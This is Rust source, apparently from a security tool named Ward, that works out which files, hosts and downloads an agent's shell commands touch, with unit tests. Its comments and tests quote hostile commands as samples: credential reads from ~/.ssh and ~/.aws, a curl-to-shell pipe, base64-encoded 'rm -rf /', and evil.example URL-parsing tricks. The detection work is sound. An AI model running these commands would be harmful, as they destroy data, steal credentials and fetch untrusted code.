            _ => Stream::Unexpanded(r.target.text.clone()),
        },
        _ if r.target.dynamic && r.target.subs.is_empty() => Stream::Opaque,
        _ if r.target.dynamic => Stream::Unexpanded(r.target.text.clone()),
        _ => Stream::Literal(r.target.text.clone()),
    }
}

/// `DIR/**`: everything under a directory a recursive command names.
/// A word quoted for a shell line, so it reads back as the one word it was.
fn shell_quote(word: &str) -> String {
    if !word.is_empty() && word.bytes().all(|b| b.is_ascii_alphanumeric() || b"/._-=:,+@%".contains(&b)) {
        return word.to_owned();
    }
    format!("'{}'", word.replace('\'', "'\\''"))
}

/// A path a container names, as the host path it is when it lies under one of `mounts`
/// (`(host source, container target)`): relative paths are under `workdir` (else `/`), `~` is
/// the image's usual home `/root`, `..` is resolved. `None`: the container's own file.
fn container_to_host(path: &str, workdir: Option<&str>, mounts: &[(String, String)]) -> Option<String> {
    let path = match path.strip_prefix('~') {
        Some(rest) if rest.is_empty() || rest.starts_with('/') => format!("/root{rest}"),
        _ => path.to_owned(),
    };
    let joined = if path.starts_with('/') { path } else { format!("{}/{path}", workdir.unwrap_or("/")) };
    let mut parts: Vec<&str> = Vec::new();
    for part in joined.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            other => parts.push(other),
        }
    }
    let absolute = format!("/{}", parts.join("/"));
    mounts
        .iter()
        .filter(|(_, target)| target.starts_with('/'))
        .filter_map(|(host, target)| {
            let target = target.trim_end_matches('/');
            let rest =
                if target.is_empty() { Some(absolute.as_str()) } else { absolute.strip_prefix(target) }?;
            (rest.is_empty() || rest.starts_with('/'))
                .then(|| (target.len(), format!("{}{rest}", host.trim_end_matches('/'))))
        })
        .max_by_key(|(len, _)| *len)
        .map(|(_, host)| if host.is_empty() { "/".to_owned() } else { host })
}

fn subtree(path: &str) -> String {
    let marker = if is_unknown(path) { UNKNOWN.to_string() } else { String::new() };
    let p = plain(path).trim_end_matches('/');
    if p.is_empty() {
        return format!("{marker}/**");
    }
    // A found tree (`find . | xargs rm -r` removes `./**`) is its own subtree.
    if p == "**" || p.ends_with("/**") {
        return format!("{marker}{p}");
    }
    format!("{marker}{p}/**")
}

/// The words of a simple command as brace expansion leaves them ([`braces`]), before anything
/// else reads them: `cat ~/.aws/{credentials,x}` reads `~/.aws/credentials`, and
/// `{cat,~/.ssh/id_rsa}` runs `cat`. The leading assignments (`X={a,b} cmd`) are not expanded,
/// as in bash; a word with a substitution in it stays whole (its text holds the script).
fn brace_expanded(words: Vec<Word>) -> Vec<Word> {
    if words.iter().all(|w| w.brace_syntax.is_empty()) {
        return words;
    }
    let mut out = Vec::with_capacity(words.len() + 2);
    let mut leading_assignments = true;
    for w in words {
        leading_assignments = leading_assignments && w.assignment().is_some();
        let expanded =
            if leading_assignments || !w.subs.is_empty() || !w.runs.is_empty() || !w.arithmetic.is_empty() {
                None
            } else {
                braces::expand(&w.text, &w.brace_syntax)
            };
        match expanded {
            Some(texts) => out.extend(texts.into_iter().map(|text| Word {
                text,
                // Quoted text stays quoted somewhere in each expansion: the cautious reading.
                first_quoted: w.first_quoted.map(|_| 0),
                dynamic: w.dynamic,
                subs: Vec::new(),
                runs: Vec::new(),
                arithmetic: Vec::new(),
                arithmetic_command: false,
                brace_syntax: Vec::new(),
            })),
            None => out.push(w),
        }
    }
    out
}

/// Whether a script file a shell runs or sources is a descriptor's content: a process
/// substitution (`. <(cmd)`, `bash <(cmd)`) or `/dev/fd/N` (`bash /dev/fd/3 3<<< '…'`), code
/// only known at run time.
fn code_from_descriptor(file: &str) -> bool {
    let file = plain(file);
    file.starts_with("<(")
        || file.starts_with("/dev/fd/")
        || file.starts_with("/proc/self/fd/")
        || file.starts_with("/proc/$$/fd/")
}

/// Whether every expansion in `segment` is one of the shell's numeric parameters (`$$`, `$!`,
/// `$?`, `$#`), whose values are digits.
fn only_numeric_parameters(segment: &str) -> bool {
    let rest = NUMERIC_PARAMETERS.iter().fold(segment.to_owned(), |s, p| s.replace(p, ""));
    segment.contains('$') && !rest.contains(['$', '`'])
}

/// The shell's parameters whose values are digits.
const NUMERIC_PARAMETERS: [&str; 4] = ["$$", "$!", "$?", "$#"];

/// `Section.sub.Key` → `section.sub.key` for a word shaped like a git config key (no `/`,
/// `=` or spaces, a dot inside); other words as they are.
fn lower_config_key(word: &str) -> String {
    let text = plain(word);
    let shaped = !text.starts_with('-')
        && text.contains('.')
        && !text.contains(['/', '=', ' ', ':'])
        && text.chars().next().is_some_and(|c| c.is_ascii_alphabetic());
    if !shaped || !text.chars().any(|c| c.is_ascii_uppercase()) {
        return word.to_owned();
    }
    let (section, rest) = text.split_once('.').unwrap_or((text, ""));
    let lowered = match rest.rsplit_once('.') {
        Some((sub, key)) => format!("{}.{sub}.{}", section.to_ascii_lowercase(), key.to_ascii_lowercase()),
        None => format!("{}.{}", section.to_ascii_lowercase(), rest.to_ascii_lowercase()),
    };
    word.replacen(text, &lowered, 1)
}

/// The git sub-command after global options (`git -C dir rm x` → `rm`).
fn plain_subcommand(args: &[String]) -> Option<&str> {
    let mut i = 0;
    while let Some(a) = args.get(i) {
        match a.as_str() {
            "-C" | "-c" | "--git-dir" | "--work-tree" | "--namespace" => i += 2,
            a if a.starts_with('-') => i += 1,
            a => return Some(a),
        }
    }
    None
}

/// The options of `xargs` that decide what it makes of its input.
#[derive(Debug, Default)]
struct XargsOptions {
    /// `-I R` / `-i[R]` / `--replace[=R]`: the input replaces `R` in the command's words.
    replace: Option<String>,
    /// `-a FILE` / `--arg-file=FILE`: the input comes from FILE instead of stdin.
    file: Option<String>,
    /// `-d`, `-0`, `-L`, `-l`, `-I`: an argument is a whole line (or record), blanks kept.
    whole_lines: bool,
    /// `-d DELIM`: what separates the arguments.
    delimiter: Option<char>,
}

fn xargs_options(xargs_args: &[String]) -> XargsOptions {
    let mut options = XargsOptions::default();
    let mut it = xargs_args.iter().map(|a| plain(a));
    while let Some(arg) = it.next() {
        if let Some(long) = arg.strip_prefix("--") {
            let (name, value) = match long.split_once('=') {
                Some((n, v)) => (n, Some(v.to_owned())),
                None => (long, None),
            };
            match name {
                "replace" => options.replace = Some(value.unwrap_or_else(|| "{}".to_owned())),
                "arg-file" => options.file = value.or_else(|| it.next().map(str::to_owned)),
                "delimiter" => {
                    options.whole_lines = true;
                    options.delimiter =
                        xargs_delimiter(&value.or_else(|| it.next().map(str::to_owned)).unwrap_or_default());
                }
                "null" | "max-lines" => options.whole_lines = true,
                _ => {}
            }
            continue;
        }
        let Some(cluster) = arg.strip_prefix('-').filter(|c| !c.is_empty()) else { continue };
        // `-0rI{}`: flags, then an option whose value is the rest of the word or the next word
        // (`-e`, `-i`, `-l` take theirs only glued).
        for (at, flag) in cluster.char_indices() {
            let rest = &cluster[at + flag.len_utf8()..];
            let mut value =
                || if rest.is_empty() { it.next().map(str::to_owned) } else { Some(rest.to_owned()) };
            match flag {
                '0' => options.whole_lines = true,
                'I' => {
                    options.replace = value();
                    options.whole_lines = true;
                }
                'i' => {
                    options.replace = Some(if rest.is_empty() { "{}".to_owned() } else { rest.to_owned() });
                    options.whole_lines = true;
                }
                'a' => options.file = value(),
                'd' => {
                    options.whole_lines = true;
                    options.delimiter = xargs_delimiter(&value().unwrap_or_default());
                }
                'L' => {
                    options.whole_lines = true;
                    value();
                }
                'l' => options.whole_lines = true,
                // `-e[EOF]`: its value only glued (`-eax` is `-e` with `ax`).
                'e' => {}
                'E' | 'n' | 'P' | 's' => {
                    value();
                }
                _ => continue,
            }
            break;
        }
    }
    options
}

/// `-d`'s value: one character or an escape (`\n`, `\t`, `\0`, `\\`, `\xHH`, `\NNN`).
fn xargs_delimiter(value: &str) -> Option<char> {
    match value.strip_prefix('\\') {
        None => value.chars().next(),
        Some("") => Some('\\'),
        Some(escape) => {
            let (text, _) = printf::escapes(&format!("\\{escape}"), printf::Escapes::PercentB);
            text.chars().next()
        }
    }
}

/// The words xargs reads from `text` by default: blank-separated, with its own quotes
/// (`'…'`, `"…"`) and backslashes removed.
fn xargs_words(text: &str) -> Vec<String> {
    let mut words = Vec::new();
    let mut word = String::new();
    let mut in_word = false;
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        match c {
            '\'' | '"' => {
                in_word = true;
                for q in chars.by_ref() {
                    if q == c {
                        break;
                    }
                    word.push(q);
                }
            }
            '\\' => {
                in_word = true;
                word.extend(chars.next());
            }
            c if c.is_whitespace() => {
                if in_word {
                    words.push(std::mem::take(&mut word));
                    in_word = false;
                }
            }
            c => {
                in_word = true;
                word.push(c);
            }
        }
    }
    if in_word {
        words.push(word);
    }
    words
}

/// The arguments `xargs` adds to its command from its input: the words of a literal input
/// (`echo apply | xargs terraform`), found names, or a word only known at run time. With
/// `-I R` / `-i`, the input replaces `R` inside the command's words instead, once per line.
/// Every way xargs could split the input is taken (words and whole lines): the cautious side.
fn xargs_arguments(options: &XargsOptions, command: &mut Vec<String>, stdin: &Stream) {
    let inputs: Option<Vec<String>> = match stdin {
        Stream::Names(patterns) => Some(patterns.clone()),
        Stream::Literal(text) => {
            let mut inputs = xargs_words(text);
            if options.whole_lines || options.replace.is_some() {
                let delimiter = options.delimiter.unwrap_or('\n');
                let mut seen: HashSet<String> = inputs.iter().cloned().collect();
                for line in text.split(['\n', '\0', delimiter]).map(str::trim).filter(|l| !l.is_empty()) {
                    if seen.insert(line.to_owned()) {
                        inputs.push(line.to_owned());
                    }
                }
            }
            Some(inputs)
        }
        _ => None,
    };
    match (options.replace.as_deref().filter(|r| !r.is_empty()), inputs) {
        (Some(r), Some(inputs)) => {
            let mut replaced = Vec::with_capacity(command.len() + inputs.len());
            for (at, w) in command.iter().enumerate() {
                if at > 0 && w.contains(r) {
                    replaced.extend(inputs.iter().map(|input| w.replace(r, input)));
                } else {
                    replaced.push(w.clone());
                }
            }
            *command = replaced;
        }
        (Some(r), None) => {
            // A word that is the input is unknown; inside a longer word (`sh -c 'rm {}'`) the
            // input becomes a variable no one assigned, which analysis treats as unknown.
            for w in command.iter_mut().skip(1) {
                if *w == r {
                    w.insert(0, UNKNOWN);
                } else if w.contains(r) && !is_unknown(w) {
                    *w = w.replace(r, "$__xargs_input");
                }
            }
        }
        (None, Some(inputs)) => command.extend(inputs),
        (None, None) => command.push(format!("{UNKNOWN}<xargs input>")),
    }
}

/// What `echo` prints: its words after its options, with escapes read under `-e`. Without
/// `-e`, a backslash is printed by bash but read as an escape by dash's `echo`: unknown.
fn echo_output(args: &[String]) -> Stream {
    let mut interpret = false;
    let mut newline = true;
    let mut words = args.iter().map(String::as_str).peekable();
    while let Some(option) = words
        .peek()
        .filter(|a| a.len() > 1 && a.starts_with('-') && a[1..].chars().all(|c| matches!(c, 'n' | 'e' | 'E')))
    {
        interpret = option.rfind('e').is_some_and(|e| option.rfind('E').is_none_or(|big| e > big));
        newline &= !option.contains('n');
        words.next();
    }
    let text = words.collect::<Vec<_>>().join(" ");
    // What it prints, its newline included: a list's outputs follow each other as printed
    // (`$(printf ~/.aws/; echo credentials)` is one path).
    let end = if newline { "\n" } else { "" };
    match (interpret, text.contains('\\')) {
        (_, false) => Stream::Literal(text + end),
        (true, true) => {
            let (printed, stopped) = printf::escapes(&text, printf::Escapes::Echo);
            Stream::Literal(if stopped { printed } else { printed + end })
        }
        (false, true) => Stream::Opaque,
    }
}

/// `printf [-v NAME] [--] FORMAT ARGS…`: the variable it assigns (`-v`) and the text it
/// prints, when known.
fn printf_arguments(args: &[String]) -> (Option<String>, Option<String>) {
    let mut rest = args;
    let mut variable = None;
    if let Some(name) = rest.first().and_then(|a| plain(a).strip_prefix("-v")) {
        // `-v NAME` or `-vNAME`.
        if name.is_empty() {
            variable = rest.get(1).map(|v| plain(v).to_owned());
            rest = rest.get(2..).unwrap_or_default();
        } else {
            variable = Some(name.to_owned());
            rest = &rest[1..];
        }
    }
    if rest.first().map(String::as_str) == Some("--") {
        rest = &rest[1..];
    }
    let text = match rest.split_first() {
        Some(_) if rest.iter().any(|a| is_unknown(a)) => None,
        Some((format, arguments)) => printf::format(format, arguments),
        None => None,
    };
    (variable, text)
}

/// What a command writes to stdout, for the next stage of a pipeline.
fn output_of(program: &str, args: &[String], stdin: Stream) -> Stream {
    if tables::is_downloader(program, args) {
        return Stream::Download;
    }
    if matches!(program, "echo" | "printf") && args.iter().any(|a| is_unknown(a)) {
        return Stream::Opaque;
    }
    match program {
        "echo" => echo_output(args),
        "printf" => match printf_arguments(args) {
            (None, Some(text)) => Stream::Literal(text),
            _ => Stream::Opaque,
        },
        "base64" if args.iter().any(|a| matches!(a.as_str(), "-d" | "--decode" | "-D")) => match stdin {
            Stream::Literal(text) => match base64_decode(text.trim()) {
                Some(decoded) => Stream::Literal(decoded),
                None => Stream::Opaque,
            },
            Stream::Download => Stream::Download,
            _ => Stream::Opaque,
        },
        "rev" => match stdin {
            Stream::Literal(text) => Stream::Literal(
                text.lines().map(|l| l.chars().rev().collect::<String>()).collect::<Vec<_>>().join("\n"),
            ),
            Stream::Download => Stream::Download,
            _ => Stream::Opaque,
        },
        "ls" => Stream::Names(streams::ls_names(args)),
        // `realpath`/`readlink -f` print the paths they are given (resolved).
        "realpath" | "readlink" => {
            Stream::Names(args.iter().filter(|a| !a.starts_with('-')).cloned().collect())
        }
        _ => match stdin {
            // A line filter (`sort`, `grep x`, `tee f`) passes its input's lines on.
            s @ (Stream::Literal(_) | Stream::Names(_)) if streams::passes_lines(program, args) => s,
            // Filters keep downloaded content downloaded (`curl … | gunzip | sh`).
            Stream::Download => Stream::Download,
            _ => Stream::Opaque,
        },
    }
}

fn base64_decode(text: &str) -> Option<String> {
    let mut bits: u32 = 0;
    let mut nbits = 0u32;
    let mut out = Vec::new();
    for c in text.chars() {
        let v = match c {
            'A'..='Z' => c as u32 - 'A' as u32,
            'a'..='z' => c as u32 - 'a' as u32 + 26,
            '0'..='9' => c as u32 - '0' as u32 + 52,
            '+' | '-' => 62,
            '/' | '_' => 63,
            '=' | '\n' | '\r' | ' ' => continue,
            _ => return None,
        };
        bits = (bits << 6) | v;
        nbits += 6;
        if nbits >= 8 {
            nbits -= 8;
            out.push(((bits >> nbits) & 0xff) as u8);
        }
        bits &= (1 << nbits) - 1;
    }
    String::from_utf8(out).ok()
}

/// Basename of `argv[0]`: `/usr/bin/rm` → `rm`.
/// git configuration keys that send its traffic elsewhere: a proxy, or curl's resolve list.
fn git_proxy_key(key: &str) -> bool {
    (key.starts_with("http.") || key.starts_with("https.") || key.starts_with("remote."))
        && (key.ends_with(".proxy") || key.ends_with(".curloptresolve"))
}

/// Where a proxy key's value sends traffic (`http.curloptResolve=H:443:ADDR` → ADDR).
fn git_proxy_destination(key: &str, value: &str) -> String {
    if key.ends_with(".curloptresolve") {
        value.trim_start_matches(['+', '-']).splitn(3, ':').nth(2).unwrap_or(value).to_owned()
    } else {
        value.to_owned()
    }
}

/// The subscript of an array element assignment (`a[i+1]=x` → `i+1`).
fn assignment_subscript(w: &Word) -> Option<&str> {
    let detail = w.assignment_detail()?;
    if !detail.element {
        return None;
    }
    let target = w.text.split('=').next()?;
    let open = target.find('[')?;
    target[open + 1..].trim_end_matches('+').strip_suffix(']')
}

/// Whether a builtin is given a variable *name* only known at run time: bash evaluates a
/// subscript in a name (`read "$x"`, `printf -v "$x"`, `test -v "$x"`, `wait -p "$x"`,
/// `declare "$x"` with x=`a[$(cmd)]=1`), running the substitution in it.
fn names_evaluated(argv: &[String]) -> bool {
    let Some(program) = argv.first().map(|p| plain(p)) else { return false };
    let args = &argv[1..];
    let unknown_name = |a: &String| is_unknown(a) && !known_beginning(plain(a)).contains('=');
    let after = |flag: &str| args.windows(2).any(|w| plain(&w[0]) == flag && unknown_name(&w[1]));
    // `read -r PS4 < f; set -x`, `printf -v PS4 …`: a prompt given text only known at run time.
    let prompt = |a: &String| tables::PROMPT_VARIABLES.contains(&plain(a));
    let prompt_after = |flag: &str| args.windows(2).any(|w| plain(&w[0]) == flag && prompt(&w[1]));
    match program {
        "read" => {
            args.iter().any(|a| (unknown_name(a) || prompt(a)) && !plain(a).starts_with('-')) || after("-a")
        }
        "printf" => after("-v") || prompt_after("-v"),
        "mapfile" | "readarray" => args.iter().any(prompt),
        "test" | "[" | "[[" => after("-v") || after("-R"),
        "wait" => after("-p"),
        "declare" | "typeset" | "local" | "export" | "readonly" => {
            args.iter().any(|a| unknown_name(a) && !plain(a).starts_with('-'))
        }
        _ => false,
    }
}

/// What a word only known at run time spells before its first expansion.
fn known_beginning(text: &str) -> &str {
    text.split(['$', '`']).next().unwrap_or_default()
}

/// Whether a substitution's script prints only a number (`$(wc -l < f)`, `$(seq 5)`,
/// `$(grep -c x f)`, `$(date +%s)`, `$(ls | wc -l | tr -d ' ')`): its output, evaluated as
/// arithmetic, runs nothing. One pipeline (a list prints what each of its commands prints),
/// whose last stage, past whitespace clean-ups, counts; nothing in it only known at run time.
fn prints_a_number(script: &str) -> bool {
    if script.contains([';', '&', '\n', '`']) || script.contains("$(") {
        return false;
    }
    let stages: Vec<&str> = script.split('|').collect();
    let mut last = stages.len() - 1;
    while last > 0 && passes_a_number(stages[last]) {
        last -= 1;
    }
    counts(stages[last])
}

/// The words of a pipeline stage, without its redirections (`wc -l < "$f"` → `wc -l`).
fn stage_words(stage: &str) -> Vec<&str> {
    let mut words = Vec::new();
    let mut it = stage.split_whitespace();
    while let Some(word) = it.next() {
        let operator = word.trim_start_matches(|c: char| c.is_ascii_digit());
        if operator.starts_with(['<', '>']) {
            if operator.trim_start_matches(['<', '>', '&']).is_empty() {
                it.next(); // the target is the next word
            }
            continue;
        }
        words.push(word);
    }
    words
}

/// A stage that prints a number when given one: whitespace removed or the first field taken.
fn passes_a_number(stage: &str) -> bool {
    let words = stage_words(stage);
    match words.split_first() {
        Some((&"xargs", rest)) => rest.is_empty(),
        Some((&"tr", rest)) => {
            rest.first() == Some(&"-d")
                && rest[1..].iter().all(|set| {
                    let set = set.trim_matches(|c| c == '\'' || c == '"');
                    matches!(set, "[:space:]" | "[:blank:]") || set.chars().all(|c| " \\nt".contains(c))
                })
        }
        Some((&"cut", rest)) => rest.iter().any(|a| matches!(*a, "-f1" | "-f" | "1" | "-d" | "--fields=1")),
        Some((&("head" | "tail"), _)) => true,
        _ => false,
    }
}

/// A stage whose output is a count or another number.
fn counts(stage: &str) -> bool {
    let words = stage_words(stage);
    let Some((program, args)) = words.split_first() else { return false };
    if args.iter().any(|a| a.contains(['$', '`'])) {
        return false;
    }
    // `wc -l *`, `grep -c x *` print file names beside the counts, and a file's name is
    // whatever the agent made it (`a[$(cmd)]`): only names spelled out on the line, or none.
    let names_spelled_out = || {
        args.iter().all(|a| !a.contains(['*', '?', '[']))
            && !args.iter().any(|a| {
                matches!(*a, "-r" | "-R" | "--recursive" | "-H" | "--with-filename")
                    || a.starts_with("--files0-from")
            })
    };
    let numeric_format = |format: &str| {
        let format = format.trim_matches(|c| c == '\'' || c == '"');
        format.split('%').skip(1).all(|spec| {
            spec.starts_with(['s', 'b', 'B', 'i', 'h', 'u', 'g', 'X', 'Y', 'Z', 'W', 'a', 'd', 'D', 'f', 'o'])
        }) && format.split('%').next().is_some_and(|lead| lead.trim().is_empty())
    };
    match program_name(program).as_str() {
        "wc" | "du" => names_spelled_out(),
        "expr" | "seq" | "nproc" | "getconf" | "tput" => {
            !args.iter().any(|a| a.starts_with("-f") || a.starts_with("--format"))
        }
        "id" => args.iter().any(|a| matches!(*a, "-u" | "-g" | "-ur" | "-gr")),
        "date" => args.iter().all(|a| !a.starts_with('+') || a.chars().all(|c| "+%sSmMHdjyYNu".contains(c))),
        "grep" | "egrep" | "fgrep" | "rg" => {
            args.iter().any(|a| *a == "-c" || *a == "--count") && names_spelled_out()
        }
        "git" => args.contains(&"--count"),
        "stat" => args
            .iter()
            .position(|a| matches!(*a, "-c" | "--printf" | "--format"))
            .and_then(|i| args.get(i + 1))
            .or_else(|| {
                args.iter().find_map(|a| {
                    a.strip_prefix("--format=").or_else(|| a.strip_prefix("--printf=")).map(|_| a)
                })
            })
            .is_some_and(|f| {
                numeric_format(f.trim_start_matches("--format=").trim_start_matches("--printf="))
            }),
        "jq" => args.iter().any(|a| a.trim_matches(|c| c == '\'' || c == '"') == "length"),
        _ => false,
    }
}

/// A value that is a number whatever the run: `$((…))`, `$[…]`, `${#x}`, or a substitution
/// that prints one (`$(wc -l < f)`, `` `seq 5` ``).
fn is_number_value(value: &str) -> bool {
    let substitution = value
        .strip_prefix("$(")
        .and_then(|v| v.strip_suffix(')'))
        .or_else(|| value.strip_prefix('`').and_then(|v| v.strip_suffix('`')));
    is_number_expansion(value) || substitution.is_some_and(prints_a_number)
}

/// `$((…))` / `$[…]` / `${#x}`: a value that is a number.
fn is_number_expansion(value: &str) -> bool {
    let v = value.trim();
    // `${#x}`: a length.
    if v.starts_with("${#") && v.ends_with('}') && v.matches("${").count() == 1 {
        return true;
    }
    (v.starts_with("$((") && v.ends_with("))") && v.matches("$((").count() == 1)
        || (v.starts_with("$[") && v.ends_with(']') && v.matches("$[").count() == 1)
}

pub fn program_name(argv0: &str) -> String {
    argv0.rsplit('/').next().unwrap_or(argv0).to_owned()
}

/// A path argument as policy should see it; `None` for pseudo-files that touch nothing.
fn normalize_path(path: &str) -> Option<String> {
    if path.is_empty() || path == "-" {
        return None;
    }
    if matches!(path, "/dev/null" | "/dev/stdin" | "/dev/stdout" | "/dev/stderr" | "/dev/tty")
        || path.starts_with("/dev/fd/")
    {
        return None;
    }
    for prefix in ["${HOME}", "$HOME"] {
        if let Some(rest) = path.strip_prefix(prefix) {
            if rest.is_empty() || rest.starts_with('/') {
                return Some(format!("~{rest}"));
            }
        }
    }
    Some(path.to_owned())
}

/// Host of `scheme://[user@]host[:port]/…`, lower-case.
pub fn url_host(url: &str) -> Option<String> {
    url_hosts(url).into_iter().next()
}

/// Every host a client may take `url` to name. URL parsers disagree on a `\` before the host's
/// end: curl (RFC 3986) reads `https://evil.example\@github.com/` as github.com, browsers and
/// Node (WHATWG, where `\` is `/` in http(s) URLs) as evil.example. Both are reported, so a
/// rule sees the host a client may really contact. RFC reading first.
pub fn url_hosts(url: &str) -> Vec<String> {
    let mut hosts: Vec<String> = Vec::new();
    if let Some((scheme, rest)) = url.split_once("://") {
        if scheme.is_empty()
            || !scheme.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
            || scheme.eq_ignore_ascii_case("file")
        {
            return hosts;
        }
        let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
        hosts.extend(host_of_authority(authority));
    }
    if let Some(host) = whatwg_special_host(url).filter(|h| !hosts.contains(h)) {
        hosts.push(host);
    }
    hosts
}

/// The host of an `http`, `https`, `ws`, `wss` or `ftp` URL as WHATWG parsers (Node's
/// `fetch`, browsers) read it: any run of `/` and `\` after the scheme is skipped
/// (`https:evil.example/`, `https:///evil.example`, `https:\\evil.example`), and the host
/// ends at `/`, `\`, `?` or `#`.
fn whatwg_special_host(url: &str) -> Option<String> {
    let (scheme, rest) = url.trim_start().split_once(':')?;
    if !matches!(scheme.to_ascii_lowercase().as_str(), "http" | "https" | "ws" | "wss" | "ftp") {
        return None;
    }
    let rest = rest.trim_start_matches(['/', '\\']);
    let authority = rest.split(['/', '\\', '?', '#']).next()?;
    host_of_authority(authority)
}

/// Whether a literal is a URL a client would fetch: `scheme://…`, or a special scheme's
/// WHATWG spellings without the slashes (`https:evil.example`).
fn is_url(text: &str) -> bool {
    text.contains("://") || whatwg_special_host(text).is_some()
}

fn host_of_authority(authority: &str) -> Option<String> {
    let authority = authority.rsplit('@').next().unwrap_or_default();
    let host = if let Some(v6) = authority.strip_prefix('[') {
        v6.split(']').next().unwrap_or_default()
    } else {
        authority.split(':').next().unwrap_or_default()
    };
    if host.is_empty() {
        None
    } else {
        Some(host.to_ascii_lowercase())
    }
}

/// Whether `path` is a dot-directory of a home or inside one (`~/.local/share`,
/// `/home/u/.config`, `/root/.ssh`, `/Users/u/.aws/x`): where Ward's files, credentials and
/// start-up files live, and not where a workspace is.
fn in_home_dot_directory(path: &str) -> bool {
    // Lexically: `~/.local/x/../share` is `~/.local/share`; leading `..` stay (a path above the
    // workspace), and `~/..` leaves the home.
    let mut segments: Vec<&str> = Vec::new();
    for segment in path.split('/') {
        match segment {
            "" | "." => {}
            ".." if segments.last().is_some_and(|last| *last != "..") => {
                segments.pop();
            }
            other => segments.push(other),
        }
    }
    // `../../.local/share`: above the workspace, where the home may be.
    if segments.first() == Some(&"..") {
        return segments.iter().find(|s| **s != "..").is_some_and(|s| s.starts_with('.'));
    }
    let in_home = match segments.as_slice() {
        ["~", rest @ ..] => rest,
        ["home" | "Users", _user, rest @ ..] => rest,
        ["root", rest @ ..] => rest,
        ["var", "root", rest @ ..] => rest,
        _ => return false,
    };
    match in_home {
        // Agents keep worktrees of a repository in their own dot-directory
        // (`~/.codex/worktrees/…`, `~/.cursor/worktrees/…`): a workspace may be there.
        [_, "worktrees", _, ..] => false,
        [first, ..] => first.starts_with('.') && !matches!(*first, "." | ".."),
        [] => false,
    }
}

/// `example.com`, `example.com:8080/x`, `user@host`: a host a network client would contact.
fn bare_host(arg: &str) -> Option<String> {
    if arg.starts_with('-') || arg.starts_with('/') || arg.starts_with('.') || arg.contains("://") {
        return None;
    }
    let authority = arg.split(['/', '?', '#']).next().unwrap_or_default();
    let host = host_of_authority(authority)?;
    let plausible = (host.contains('.') || host == "localhost")
        && host.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_' | ':'));
    plausible.then_some(host)
}

/// `git@github.com:org/repo.git` → `github.com`.
fn scp_like_host(arg: &str) -> Option<String> {
    let (left, _) = arg.split_once(':')?;
    if left.contains('/') || left.is_empty() {
        return None;
    }
    let host = left.rsplit('@').next()?;
    (host.contains('.') || left.contains('@')).then(|| host.to_ascii_lowercase())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn container_paths_map_to_their_mounts() {
        let mounts = vec![(".".to_owned(), "/w".to_owned()), ("sub".to_owned(), "/w/deep".to_owned())];
        let host = |p: &str, wd: Option<&str>| container_to_host(p, wd, &mounts);
        assert_eq!(host("/w/.ward-tier-sensitive", None).as_deref(), Some("./.ward-tier-sensitive"));
        assert_eq!(host("/w", None).as_deref(), Some("."));
        assert_eq!(host("/w/deep/x", None).as_deref(), Some("sub/x"), "the longest target wins");
        assert_eq!(host("x/../y", Some("/w")).as_deref(), Some("./y"));
        assert_eq!(host("/w/../etc/passwd", None), None, "`..` leaves the mount");
        assert_eq!(host("/tmp/x", None), None);
        assert_eq!(host("/wx/y", None), None, "a sibling that shares the prefix");
        let root = vec![(".".to_owned(), "/root/".to_owned())];
        assert_eq!(container_to_host("~/.envrc", None, &root).as_deref(), Some("./.envrc"));
        assert_eq!(shell_quote("a b'c"), "'a b'\\''c'");
        assert_eq!(shell_quote("-c"), "-c");
    }

    #[test]
    fn home_dot_directories() {
        for inside in [
            "~/.local/share",
            "~/.config",
            "/home/u/.ssh/x",
            "/Users/u/.aws",
            "/root/.bashrc",
            "/var/root/.x",
            "~/./.local",
            "../../.local/share",
            "~/.local/share/worktrees/..",
            "~/.local/worktrees/../share",
            "/home/u/.codex/worktrees",
            "~/.local/share/worktrees",
        ] {
            assert!(in_home_dot_directory(inside), "{inside}");
        }
        for outside in [
            "~",
            "~/src/.app",
            "/home/u",
            "/home/u/src",
            "/tmp/.tmpX/home/.local",
            "/.git",
            "~/../.x",
            "./.env",
            "../src",
            "~/.codex/worktrees/a1/app",
            "/home/u/.cursor/worktrees/app/src",
        ] {
            assert!(!in_home_dot_directory(outside), "{outside}");
        }
    }

    #[test]
    fn base64_round_trip() {
        assert_eq!(base64_decode("cm0gLXJmIC8=").as_deref(), Some("rm -rf /"));
        assert_eq!(base64_decode("not base64!"), None);
    }

    #[test]
    fn hosts_from_urls() {
        assert_eq!(url_host("https://User:pw@Example.COM:8443/x?y").as_deref(), Some("example.com"));
        assert_eq!(url_host("http://[::1]:80/"), Some("::1".to_owned()));
        assert_eq!(url_host("file:///etc/passwd"), None);
        // curl's reading and the WHATWG one (Node, browsers) of a `\` in the authority.
        assert_eq!(url_hosts("https://evil.example\\@github.com/"), ["github.com", "evil.example"]);
        assert_eq!(url_hosts("https://github.com\\@evil.example/"), ["evil.example", "github.com"]);
        assert_eq!(url_hosts("https://github.com/a\\b"), ["github.com"]);
        // WHATWG parsers skip any slashes and backslashes after a special scheme.
        assert_eq!(url_hosts("https:evil.example/x"), ["evil.example"]);
        assert_eq!(url_hosts("https:///evil.example/"), ["evil.example"]);
        assert_eq!(url_hosts("HTTPS:\\\\evil.example\\x"), ["evil.example"]);
        assert!(url_hosts("mailto:a@b.example").is_empty());
        assert!(url_hosts("https:").is_empty());
        assert_eq!(bare_host("example.com/install.sh").as_deref(), Some("example.com"));
        assert_eq!(bare_host("install.sh"), Some("install.sh".to_owned()));
        assert_eq!(scp_like_host("git@github.com:org/repo.git").as_deref(), Some("github.com"));
    }
}

#[cfg(test)]
mod run_time_targets {
    use super::*;

    fn env(name: &str) -> Option<String> {
        match name {
            "WARD_HOME" => Some("/srv/ward-data".into()),
            "XDG_CONFIG_HOME" => Some("/cfg".into()),
            "PATH" => Some("/usr/bin".into()),
            _ => None,
        }
    }

    fn paths(a: &ShellAnalysis) -> Vec<(&str, Access)> {
        a.paths.iter().map(|p| (p.path.as_str(), p.access)).collect()
    }

    #[test]
    fn ward_variables_resolve_from_the_hook_environment_unless_assigned() {
        let a = analyze_with_env("rm -rf $WARD_HOME", &env);
        assert!(paths(&a).contains(&("/srv/ward-data", Access::Delete)), "{a:?}");
        assert!(a.unanalyzed().is_none());
        let a = analyze_with_env("rm -rf ${XDG_CONFIG_HOME}/ward", &env);
